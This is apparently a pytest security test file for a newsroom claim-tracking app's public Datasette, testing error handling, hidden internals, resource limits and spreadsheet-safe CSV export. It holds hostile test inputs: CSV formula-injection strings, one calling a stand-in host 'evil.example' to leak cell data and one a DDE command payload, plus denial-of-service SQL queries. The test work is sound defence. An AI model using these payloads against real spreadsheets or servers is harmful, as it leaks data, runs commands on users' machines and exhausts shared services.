"""The researchers' Datasette under /data/ cannot take the newsroom down, answers bad URLs with a 400,
hides the server's internals and writes spreadsheet-safe CSV.

In-process tests go through the real ASGI app (claimtrack.asgi, with the real datasette-metadata.json);
the resource tests run against a served ``claimtrack serve`` process and watch its memory in /proc.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import json
import re
import sqlite3
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from conftest import csrf_token
from flask import Flask
from security_support import (  # noqa: F401  (fast_hashing is an autouse fixture)
    World,
    asgi_get_all,
    build_world,
    clone_world,
    dispose,
    fast_hashing,
    make_app,
    make_asgi,
    rows,
)
from server_fixture import LiveServer, live_server, sign_in_http  # noqa: F401  (the fixture)

from claimtrack.datasette import limits
from claimtrack.datasette.csv_safety import neutralise
from claimtrack.db import make_engine, write_session
from claimtrack.models import ClaimCreate, LinkCreate
from claimtrack.services.claims import create_claim
from claimtrack.services.links import add_link

# Each behaviour's bound, from the issue: an answer within the 3 s time limit plus a second, and the
# server's memory within a few hundred MB of its idle size.
QUERY_SECONDS = 4.0
RSS_GROWTH_BYTES = 300 * 1024 * 1024

HOSTILE_TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\tindented =1+1",
    "cr": "\r=1+1",
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    """A seeded world plus claims whose texts (and a speaker, outlet, note, rationale) start like formulas,
    recorded through the app's own services (the app stores what editors type, as typed)."""
    world = build_world(tmp_path_factory.mktemp("hardening"))
    engine = make_engine(world.db)
    try:
        with write_session(engine, actor="test") as session:
            made = {}
            for key, text in HOSTILE_TEXTS.items():
                made[key] = create_claim(
                    session,
                    ClaimCreate.model_validate(
                        {
                            "text": text,
                            "speaker": {"name": "=cmd|' /C calc'!A0"},
                            "verdict": "false",
                            "verdict_rationale": "-rationale",
                            "source": {"title": "Report", "outlet": "@outlet"},
                            "event": "Aleppo evacuation, December 2016",
                        }
                    ),
                ).id
            add_link(session, made["plus"], LinkCreate(relation="contradicts", note="+note", target_id=made["formula"]))
    finally:
        engine.dispose()
    # The forms strip leading whitespace; older rows, imports or seeds need not have: store those exactly.
    with closing(sqlite3.connect(world.db)) as conn, conn:
        for key in ("tab", "cr"):
            conn.execute("UPDATE claims SET text = ? WHERE id = ?", (HOSTILE_TEXTS[key], made[key]))
    return world


@pytest.fixture(scope="module")
def asgi(world: World) -> Iterator[Any]:
    app: Flask = make_app(world)
    try:
        yield make_asgi(app, world)
    finally:
        dispose(app)


def get(asgi: Any, url: str) -> httpx.Response:
    return asgi_get_all(asgi, [url])[url]


def sql_url(sql: str, fmt: str = ".json", extra: str = "") -> str:
    return f"/data/claimtrack{fmt}?sql={quote(sql)}{extra}"


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- 2. malformed arguments are the visitor's mistake: 400, never 500 ---------------------------------

BAD_ARGUMENTS = {
    "/data/claimtrack/claims.json?_sort=nonexist": "Cannot sort table by nonexist",
    "/data/claimtrack/claims.json?_sort_desc=nonexist": "Cannot sort table by nonexist",
    "/data/claimtrack/speaker_claims.json?_sort=nonexist": "Cannot sort table by nonexist",
    "/data/claimtrack/contested_claims.json?_sort_desc=nonexist": "Cannot sort table by nonexist",
    "/data/claimtrack/claims.json?_sort=id&_sort_desc=id": "Cannot use _sort and _sort_desc at the same time",
    "/data/claimtrack/claims.json?id__gt=99999999999999999999999": "out of range",
    "/data/claimtrack/speaker_claims.json?_next=garbage": "_next must be",
    "/data/claimtrack/claims.json?id__in=%5B1": "id__in takes a JSON list",
    # A JSON list whose items are objects or lists: SQLite cannot bind them.
    "/data/claimtrack/claims.json?speaker_id__in=%5B%7B%7D%5D": "speaker_id__in takes a JSON list of numbers or strings",
    "/data/claimtrack/speaker_claims.json?claim_id__notin=%5B%5B1%5D%5D": "claim_id__notin takes a JSON list of numbers",
    "/data/claimtrack/claims.json?_timelimit=abc": "_timelimit must be a whole number",
    "/data/claimtrack.json?sql=select+1&_timelimit=abc": "_timelimit must be a whole number",
    "/data/claimtrack/claims.json?_through=%7B": "_through must be JSON",
    # Valid JSON that is not an object with table, column and value.
    "/data/claimtrack/claims.json?_through=%7B%7D": "_through must be JSON",
    "/data/claimtrack/claims.json?_through=%7B%22table%22%3A%22claim_sources%22%7D": "_through must be JSON",
    "/data/claimtrack/claims.json?_through=%5B%5D": "_through must be JSON",
    "/data/claimtrack/claims.json?_through=1": "_through must be JSON",
    "/data/claimtrack/claims.json?_size=abc": "_size must be a positive integer",
    # A view pages by offset: a number SQLite cannot hold is out of range, as in a filter.
    "/data/claimtrack/claim_links_readable.json?_next=99999999999999999999": "out of range",
    # SQL text cannot hold a NUL character: pasted into a facet or a where clause it is the URL's mistake.
    "/data/claimtrack/claims.json?_where=a%00b": "NUL character",
}
# Datasette's error page for a URL it cannot answer as .json.
BAD_HTML_ARGUMENTS = {"/data/claimtrack.csv": "A database has no CSV of its own"}


def test_malformed_arguments_are_400_with_a_clear_message(asgi: Any) -> None:
    responses = asgi_get_all(asgi, list(BAD_ARGUMENTS))
    for url, expected in BAD_ARGUMENTS.items():
        response = responses[url]
        assert response.status_code == 400, (url, response.status_code, response.text[:300])
        assert expected in response.json()["error"], (url, response.json())
    # The HTML page and the CSV export say it the same way.
    for url in (
        "/data/claimtrack/claims?_sort=nonexist",
        "/data/claimtrack/claims.csv?_sort=nonexist",
        "/data/claimtrack/claims?id__gt=99999999999999999999999",
        "/data/claimtrack/claims?_where=%00",
        "/data/claimtrack/claims.csv?_where=%00",
    ):
        response = get(asgi, url)
        assert response.status_code == 400, (url, response.status_code)
        assert "Traceback" not in response.text
    for url, expected in BAD_HTML_ARGUMENTS.items():
        response = get(asgi, url)
        assert response.status_code == 400, (url, response.status_code)
        assert expected in response.text, (url, response.text[:500])


def test_a_nul_character_in_a_facet_is_400(asgi: Any) -> None:
    for url in (
        "/data/claimtrack/claims.json?_facet=verdict%00",
        "/data/claimtrack/claims?_facet=%00",
        "/data/claimtrack/speaker_claims?_facet_array=%00",
        "/data/claimtrack/claims.csv?_facet_date=a%00",
    ):
        response = get(asgi, url)
        assert response.status_code == 400, (url, response.status_code, response.text[:300])
        assert "NUL character" in response.text, (url, response.text[:300])


def test_a_search_of_quote_marks_or_with_a_nul_is_not_an_sql_error(asgi: Any) -> None:
    # Datasette's escape_fts turns a lone quote mark into an empty FTS5 query and a NUL into an unterminated
    # string: "Invalid SQL" for what someone typed into a search box.
    wordless = [
        "/data/claimtrack/claims.json?_search=%22",
        "/data/claimtrack/claims.json?_search=%22%22",
        "/data/claimtrack/claims.json?_search_text=%22",
        "/data/claimtrack/speakers.json?_search=%22",
        "/data/claimtrack/event_timeline.json?_search=%22",
        "/data/claimtrack/claims.json?_search=%00",
    ]
    responses = asgi_get_all(asgi, wordless)
    for url in wordless:
        response = responses[url]
        assert response.status_code == 200, (url, response.status_code, response.text[:300])
        # No word to look for: nothing matches, as for a search of quote marks around a space.
        assert response.json()["rows"] == [], url
    for url in (
        "/data/claimtrack/claims?_search=%22",
        "/data/claimtrack/claims.csv?_search=%22",
        "/data/claimtrack/speaker_claims.csv?_search=%22&_stream=on&_size=max",
    ):
        response = get(asgi, url)
        assert response.status_code == 200, (url, response.status_code, response.text[:300])
    # A NUL between words separates them, as in the app's search.
    plain = get(asgi, "/data/claimtrack/claims.json?_search=thousands").json()["rows"]
    with_nul = get(asgi, "/data/claimtrack/claims.json?_search=thousands%00").json()["rows"]
    assert plain and with_nul == plain


def test_valid_sorts_and_pages_still_work(asgi: Any) -> None:
    first = get(asgi, "/data/claimtrack/speaker_claims.json?_size=5&_sort=claim_id").json()
    assert len(first["rows"]) == 5 and first["next"]
    second = get(asgi, f"/data/claimtrack/speaker_claims.json?_size=5&_sort=claim_id&_next={first['next']}")
    assert second.status_code == 200 and second.json()["rows"] != first["rows"]
    assert get(asgi, "/data/claimtrack/claims.json?id__gt=9223372036854775806").json()["rows"] == []


# --- 3. no absolute path, no server internals ---------------------------------------------------------

HIDDEN = [
    "/data/-/databases.json",
    "/data/-/databases",
    "/data/-/threads.json",
    "/data/-/threads",
    "/data/-/versions.json",
    "/data/-/versions",
    "/data/-/databases%2Ejson",
    "/data/-//threads.json",
    "/data/-/versions.json/",
]


def test_introspection_endpoints_are_hidden(asgi: Any) -> None:
    responses = asgi_get_all(asgi, HIDDEN)
    for url, response in responses.items():
        assert response.status_code == 404, (url, response.status_code, response.text[:200])


def test_no_json_endpoint_reveals_the_database_path(asgi: Any, world: World) -> None:
    secrets = [str(world.db), str(world.db.resolve()), str(world.folder), "site-packages", "sqlite3.Connection"]
    urls = [
        "/data/.json",
        "/data/-/metadata.json",
        "/data/-/settings.json",
        "/data/-/plugins.json",
        "/data/-/actor.json",
        "/data/claimtrack.json",
        "/data/claimtrack/claims.json",
        "/data/-/config.json",
        *HIDDEN,
    ]
    sqls = [
        "select * from pragma_database_list",
        "select file from pragma_database_list",
        "pragma database_list",
        "select * from pragma_temp_store_directory",
        "select * from pragma_data_store_directory",
        "select * from pragma_compile_options",
    ]
    urls += [sql_url(sql) for sql in sqls]
    responses = asgi_get_all(asgi, urls)
    for url, response in responses.items():
        assert response.status_code < 500, (url, response.status_code)
        for secret in secrets:
            assert secret not in response.text, (url, secret)
    for sql in sqls[:2]:
        response = responses[sql_url(sql)]
        assert response.status_code == 400
        assert "Only PRAGMAs that describe tables" in response.json()["error"]


def test_datasette_can_still_describe_tables(asgi: Any) -> None:
    info = get(asgi, sql_url("select name from pragma_table_info('claims')"))
    assert info.status_code == 200 and ["text"] in info.json()["rows"]
    for url in (
        "/data/claimtrack",
        "/data/claimtrack/claims",
        "/data/claimtrack/claims?_search=evacuation",
        "/data/claimtrack/claim_links_readable",
        "/data/claimtrack/claims/1",
        "/data/-/search?q=evacuation",
        "/data/claimtrack?sql=select+1",
    ):
        assert get(asgi, url).status_code == 200, url


# --- 1. the bounds, in-process: every value, every call, every result --------------------------------


def test_a_legitimately_large_claim_goes_through_every_view(
    asgi: Any, world: World, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The value and row limits sit well above the largest thing the app stores: 5,000 characters of
    four-byte UTF-8 in two linked statements with many sources, sorted (a sorter row holds it all)."""
    big = clone_world(world, tmp_path_factory.mktemp("big-claim"))
    text = "\U0001f600" * 5000
    with closing(sqlite3.connect(big.db)) as conn, conn:
        speaker = conn.execute("SELECT min(id) FROM speakers").fetchone()[0]
        made = []
        for _ in range(2):
            made.append(
                conn.execute(
                    "INSERT INTO claims (text, verbatim, speaker_id, stated_on, created_at, updated_at, version, retracted)"
                    " VALUES (?, 0, ?, '2016-12-17', '2016-12-17', '2016-12-17', 1, 0) RETURNING id",
                    (text, speaker),
                ).fetchone()[0]
            )
        for n in range(10):
            source = conn.execute(
                "INSERT INTO sources (title, outlet, url, created_at, updated_at, version)"
                " VALUES (?, ?, ?, '2016-12-17', '2016-12-17', 1) RETURNING id",
                ("T" * 400, "O" * 200, f"https://example.org/{n}/" + "u" * 1900),
            ).fetchone()[0]
            for claim in made:
                conn.execute(
                    "INSERT INTO claim_sources (claim_id, source_id, created_at) VALUES (?, ?, '2016-12-17')",
                    (claim, source),
                )
        conn.execute(
            "INSERT INTO claim_links (from_claim_id, to_claim_id, relation, note, created_at, updated_at,"
            " version, retracted) VALUES (?, ?, 'supports', ?, '2016-12-17', '2016-12-17', 1, 0)",
            (made[0], made[1], "\u0627" * 2000),
        )
    app = make_app(big)
    try:
        big_asgi = make_asgi(app, big)
        # ORDER BY a text column: SQLite sorts whole rows as records, which the length limit also bounds.
        urls = [
            sql_url("select * from claim_links_readable order by other_text desc, claim_sources"),
            sql_url("select * from event_timeline order by claim_text, sources"),
            sql_url("select * from speaker_claims order by sources desc, claim_text"),
            "/data/claimtrack/contested_claims.json?_size=max",
            "/data/claimtrack/claim_links_readable.json?_size=max&_shape=array",
            "/data/claimtrack/claims.csv?_stream=on&_size=max",
            "/data/claimtrack/claim_links_readable.csv?_stream=on&_size=max",
            "/data/claimtrack/claim_links_readable",
        ]
        responses = asgi_get_all(big_asgi, urls)
    finally:
        dispose(app)
    for url, response in responses.items():
        assert response.status_code == 200, (url, response.status_code, response.text[:300])
    readable = responses[urls[4]].json()
    assert any(row["other_text"] == text and row["claim_text"] == text for row in readable)
    assert any(text in row for row in responses[urls[0]].json()["rows"])
    assert text in responses[urls[6]].text


ATTACKS = {
    # sql -> what the answer must say (None: a result, quickly)
    "select zeroblob(150000000)": "string or blob too big",
    "select randomblob(150000000)": "string or blob too big",
    "select instr(printf('%.*c',30000000,'a'), printf('%.*c',30000,'a')||'b')": None,
    # the largest values allowed, against each other: one call, bounded by the value limit
    "select instr(printf('%.*c',99000,'a'), printf('%.*c',49000,'a')||'b')": None,
    "select length(replace(printf('%.*c',99000,'a'), printf('%.*c',49000,'a')||'b', 'x'))": None,
    "select length(replace(printf('%.*c',90000,'a'),'a','aaaa'))": "string or blob too big",
    "select printf('%.*c',99000,'a') like '%' || printf('%.*c',5000,'a') || 'b%'": "pattern too long",
    "select printf('%.*c',99000,'a') like '" + "%a" * 490 + "%b'": None,
    "select printf('%.*c',99000,'a') glob '" + "*a" * 490 + "*b'": None,
    "select printf('%.*c', 2147483647, 'a') is null": None,
    "select printf('%.2147483647c', 'a') is null": None,
    "select trim(printf('%.*c',90000,'a'), (with recursive s(i) as (select 1 union all select i+1 from s "
    "where i < 9000) select group_concat(char(i + 200), '') from s) || 'a') = ''": None,
    # (big enough to pass the value limit many times over, small enough to be read well within the time
    # limit on a loaded machine: the answer must be the size error, not the time limit)
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 20000) "
    "select group_concat(printf('%.*c', 1000, 'x')) from r": "string or blob too big",
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 50000) "
    "select json_group_array(i) from r": "string or blob too big",
    # SQLite's aggregate notes "too big" at once but reads every row first: the time limit ends it.
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 100000000) "
    "select group_concat(printf('%.*c', 1000, 'x')) from r": "took too long",
    # one row's expression is never interrupted: its costly calls are counted instead
    "with t(v, w) as (select printf('%.*c',99000,'a'), printf('%.*c',49000,'a')||'b') select "
    + " + ".join(["instr(v, w)"] * 20)
    + " from t": "more than 8 times",
    # many rows of costly calls: the time limit, enforced between any two instructions
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 100000) "
    "select sum(instr(printf('%.*c', 99000, char(97 + i % 2)), printf('%.*c', 49000, 'a') || 'b')) from r": "took too long",
    # a result far larger than any page: 1,000 rows x 100 columns of 90 KB
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 1000) select "
    + ", ".join(f"zeroblob(90000) as c{n}" for n in range(100))
    + " from r": "The result is larger than",
    "with recursive r(i) as (select 1 union all select i+1 from r where i < 1000) select "
    + ", ".join(f"randomblob(90000) as c{n}" for n in range(100))
    + " from r": "The result is larger than",
}


def check_attack_answer(sql: str, response: httpx.Response, elapsed: float | None) -> None:
    """``elapsed`` None: the query shared the cores with others, so only its answer is checked, not its time."""
    expected = ATTACKS[sql]
    assert elapsed is None or elapsed < QUERY_SECONDS, (sql[:80], elapsed)
    assert len(response.content) < 1_000_000, (sql[:80], len(response.content))
    if expected is None:
        assert response.status_code == 200, (sql[:80], response.status_code, response.text[:300])
    else:
        assert response.status_code == 400, (sql[:80], response.status_code, response.text[:300])
        assert expected in response.text, (sql[:80], response.text[:500])


def test_costly_queries_get_a_clear_error_or_a_small_result(asgi: Any) -> None:
    for sql in ATTACKS:
        if ATTACKS[sql] == "took too long":
            continue  # timed against the served process below
        started = time.monotonic()
        response = get(asgi, sql_url(sql, extra="&_shape=array"))
        check_attack_answer(sql, response, time.monotonic() - started)


def test_guarded_functions_give_sqlites_own_results() -> None:
    conn = sqlite3.connect(":memory:")
    plain = sqlite3.connect(":memory:")
    limits.prepare_connection(conn)
    cases = [
        "select printf('%d|%5.2f|%-4s|%x|%c|%.3c|%%|%q', 42, 3.14159, 'ab', 255, 'zy', 'x', 'it''s')",
        "select format('%s and %s', 'a', NULL)",
        "select printf('%*d|%.*s', 6, 7, 2, 'abcdef')",
        "select printf(NULL)",
        "select printf('%.5c', 'q')",
        "select trim('xxaxx', 'x')",
        "select ltrim('  a  ', ' '), rtrim('abcc', 'c'), trim(12344, 4), trim(NULL, 'a'), trim('a', NULL)",
        "select trim(x'0102030201', x'01')",
        "select rtrim('abcba', x'6162'), ltrim(x'616263', 'a')",
        "select trim('été', 'é'), trim(2.5, 5), rtrim(1e20, '0+e'), ltrim(-12, '-')",
    ]
    for sql in cases:
        assert conn.execute(sql).fetchall() == plain.execute(sql).fetchall(), sql


# --- 4. spreadsheet-safe CSV ----------------------------------------------------------------------------


def test_neutralise_prefixes_only_text_that_starts_like_a_formula() -> None:
    for text in HOSTILE_TEXTS.values():
        assert neutralise(text) == "'" + text
    for value in (-5, -2.5, 0, None, b"-bytes", "plain", "a=b", " =not a formula", ""):
        assert neutralise(value) == value


CSV_URLS = [
    "/data/claimtrack/claims.csv?_size=max",
    "/data/claimtrack/claims.csv?_stream=on&_size=max",
    "/data/claimtrack/claims.csv?_stream=on&_size=7&_labels=on",
    "/data/claimtrack/speaker_claims.csv?_stream=on&_size=max",
    "/data/claimtrack/event_timeline.csv?_size=max",
    "/data/claimtrack/claim_links_readable.csv?_stream=on",
    "/data/claimtrack/speakers.csv?_size=max",
    "/data/claimtrack/sources.csv?_size=max",
    "/data/claimtrack/contradicting_statements.csv?claim_id={plus}",
    "/data/claimtrack.csv?sql=" + quote("select id, text, -5 as minus_five, 2.5 as ratio from claims"),
    "/data/claimtrack.csv?sql=" + quote("select id, text from claims") + "&_stream=on",
    "/data/claimtrack/claims/{formula}.csv",
]


def test_every_csv_export_neutralises_formulas(asgi: Any, world: World) -> None:
    ids = dict(
        rows(world.db, "SELECT 'formula', id FROM claims WHERE text LIKE '=HYPERLINK%'")
        + rows(world.db, "SELECT 'plus', id FROM claims WHERE text = '+1'")
    )
    urls = [url.format(**ids) for url in CSV_URLS]
    responses = asgi_get_all(asgi, urls)
    hostile = set(HOSTILE_TEXTS.values()) | {"=cmd|' /C calc'!A0", "@outlet", "-rationale", "+note"}
    for url, response in responses.items():
        assert response.status_code == 200, (url, response.status_code, response.text[:300])
        cells = [cell for row in parse_csv(response.text) for cell in row]
        assert cells, url
        for cell in cells:
            # Whatever a spreadsheet reads as a formula is prefixed; so no cell starts with a trigger.
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-(?!\d+(\.\d+)?$)", cell), (
                url,
                cell,
            )
        assert any(cell.lstrip("'") in hostile or any(h in cell for h in hostile) for cell in cells), url
    # Numbers stay numbers; the exact text is in the JSON.
    header, *data = parse_csv(responses[urls[9]].text)
    assert header == ["id", "text", "minus_five", "ratio"]
    assert {row[2] for row in data} == {"-5"} and {row[3] for row in data} == {"2.5"}
    by_id = {int(row[0]): row[1] for row in data}
    exact = get(asgi, sql_url("select id, text from claims", extra="&_shape=array")).json()
    for row in exact:
        expected = row["text"]
        assert by_id[row["id"]] == (
            "'" + expected if expected.startswith(("=", "+", "-", "@", "\t", "\r")) else expected
        )
    assert set(HOSTILE_TEXTS.values()) <= {row["text"] for row in exact}
    table = get(asgi, "/data/claimtrack/claims.json?_shape=array&_size=max").json()
    assert set(HOSTILE_TEXTS.values()) <= {row["text"] for row in table}


def test_bom_on_request(asgi: Any) -> None:
    plain = get(asgi, "/data/claimtrack/claims.csv?_size=3")
    with_bom = get(asgi, "/data/claimtrack/claims.csv?_size=3&_bom=1")
    streamed = get(asgi, "/data/claimtrack/claims.csv?_stream=on&_size=max&_bom=1&_dl=1")
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    assert with_bom.content == b"\xef\xbb\xbf" + plain.content
    assert streamed.content.startswith(b"\xef\xbb\xbfid,text,")
    assert streamed.content.count(b"\xef\xbb\xbf") == 1
    assert "attachment" in streamed.headers["content-disposition"]
    assert not get(asgi, "/data/claimtrack/claims.json?_bom=1").content.startswith(b"\xef\xbb\xbf")


# --- 1. against a served process: time, memory, and the app meanwhile ------------------------------------


def rss_bytes(pid: int, field: str = "VmRSS") -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    match = re.search(rf"^{field}:\s+(\d+) kB", status, re.M)
    assert match, status
    return int(match.group(1)) * 1024


def timed_get(base: str, url: str) -> tuple[httpx.Response, float]:
    with httpx.Client(base_url=base, timeout=60) as client:
        started = time.monotonic()
        response = client.get(url)
        return response, time.monotonic() - started


@pytest.fixture(scope="module")
def served(live_server: LiveServer) -> LiveServer:
    assert live_server.pid is not None
    # Warm up (first requests load templates, open connections) before measuring the idle size.
    for url in ("/claims", "/data/claimtrack/claims", sql_url("select 1")):
        assert httpx.get(live_server.url + url, timeout=30).status_code == 200
    return live_server


def test_served_process_survives_every_costly_query(served: LiveServer) -> None:
    assert served.pid is not None
    idle = rss_bytes(served.pid)
    for sql in ATTACKS:
        response, elapsed = timed_get(served.url, sql_url(sql, extra="&_shape=array"))
        check_attack_answer(sql, response, elapsed)
        grown = rss_bytes(served.pid) - idle
        assert grown < RSS_GROWTH_BYTES, (sql[:80], grown // 2**20)
    # The peak, not only what is left after each query.
    assert rss_bytes(served.pid, "VmHWM") - idle < RSS_GROWTH_BYTES
    # The HTML page of the widest result is refused the same way.
    wide = next(sql for sql in ATTACKS if "zeroblob(90000) as c0" in sql)
    response, elapsed = timed_get(served.url, sql_url(wide, fmt=""))
    assert response.status_code == 400 and elapsed < QUERY_SECONDS and "The result is larger than" in response.text


def test_app_answers_while_three_costly_queries_run(served: LiveServer) -> None:
    assert served.pid is not None
    idle = rss_bytes(served.pid)
    slow = next(sql for sql in ATTACKS if ATTACKS[sql] == "took too long" and "instr" in sql)
    wide = next(sql for sql in ATTACKS if "randomblob(90000) as c0" in sql)
    with httpx.Client(base_url=served.url, timeout=30) as editor:
        sign_in_http(editor, served.editor)
        form = editor.get("/claims/new")
        with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
            queries = [
                pool.submit(timed_get, served.url, sql_url(sql, extra="&_shape=array")) for sql in (slow, slow, wide)
            ]
            time.sleep(0.5)  # all three are running now
            claims, _ = timed_get(served.url, "/claims")
            running = [q for q in queries if not q.done()]
            saved = editor.post(
                "/claims/new",
                data={
                    "csrf_token": csrf_token(form.text),
                    "text": "Saved while Datasette was busy",
                    "speaker": "Patient editor",
                },
            )
            answers = [q.result() for q in queries]
    # Ordering, not a time bound: the list page was answered while a costly query still ran (the save comes
    # right after it, and must succeed, whether or not the queries have ended by then).
    assert running, "the costly queries finished before the app answered: the app waited for them"
    assert claims.status_code == 200
    assert saved.status_code == 303, saved.text[:300]
    assert rows(served.db_path, "SELECT count(*) FROM claims WHERE text = 'Saved while Datasette was busy'") == [(1,)]
    for sql, (response, _) in zip((slow, slow, wide), answers):
        check_attack_answer(sql, response, None)
    assert rss_bytes(served.pid, "VmHWM") - idle < RSS_GROWTH_BYTES
    assert json.loads(httpx.get(served.url + sql_url("select 1", extra="&_shape=array")).text) == [{"1": 1}]
